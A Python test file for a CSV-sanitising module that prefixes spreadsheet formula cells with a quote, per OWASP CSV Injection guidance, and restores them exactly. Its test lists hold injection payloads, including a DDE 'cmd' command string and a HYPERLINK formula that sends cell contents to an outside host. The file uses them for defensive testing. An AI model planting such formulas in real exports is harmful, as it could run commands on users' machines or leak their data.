"""CSV cells a spreadsheet cannot run (OWASP CSV Injection guidance), and reading them back exactly."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from migbench.csvsafe import SafeDictWriter, SafeWriter, needs_prefix, restore_cell, safe_cell

DANGEROUS = ["=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1", "\r=1", "\0x",
             '=HYPERLINK("http://x/?"&A1,"click")', " =1+1", '"=1+1"', "'=1+1", "  @x", "\u00a0=1",
             "\uff1d1+1", "=", "-", "+", "@"]
HARMLESS = ["", "Coles", "$12.50", "12.50", "a=b", "x-y", "NOT_FOUND", "e@mail.com", "'quoted'", "  spaced"]


@pytest.mark.parametrize("cell", DANGEROUS)
def test_cells_that_could_run_get_a_leading_quote(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_ordinary_cells_are_unchanged(cell):
    assert safe_cell(cell) == cell


@pytest.mark.parametrize("number", ["-12.50", "+61", "-1,234.56", "-$12.50", "+1e5", "-0"])
def test_pure_numbers_stay_numbers_unless_asked(number):
    # a sign followed by a plain number cannot be a formula: a spreadsheet reads the number
    assert safe_cell(number) == number
    # OWASP's strict reading: prefix them too
    assert safe_cell(number, keep_numbers=False) == "'" + number


@pytest.mark.parametrize("cell", ["-12.50+cmd|'/C calc'!A0", "-1+1", "-12.50 ", "+61)", "-$1,2,3"])
def test_a_number_with_anything_after_it_is_not_a_number(cell):
    assert safe_cell(cell) == "'" + cell


def test_non_strings_pass_through():
    assert safe_cell(-3) == -3 and safe_cell(None) is None and safe_cell(1.5) == 1.5


@settings(max_examples=400, deadline=None, derandomize=True, database=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r '\"x1.$,\uff1d")), max_size=8), st.booleans())
def test_restore_undoes_safe_cell_exactly(value, keep_numbers):
    written = safe_cell(value, keep_numbers=keep_numbers)
    assert restore_cell(written, keep_numbers=keep_numbers) == value
    assert not needs_prefix(written, keep_numbers=keep_numbers) or written.startswith("'")


def test_writers_neutralise_every_cell_including_the_header():
    buf = io.StringIO()
    w = SafeDictWriter(buf, ["=name", "value"], lineterminator="\n")
    w.writeheader()
    w.writerow({"=name": "@x", "value": "-5"})
    w.writerows([{"=name": "ok"}])
    SafeWriter(buf, lineterminator="\n").writerow(["+1+1", 'a,"b"\nc'])
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [["'=name", "value"], ["'@x", "-5"], ["ok", ""], ["'+1+1", 'a,"b"\nc']]
    with pytest.raises(ValueError, match="not in fieldnames"):
        w.writerow({"other": 1})
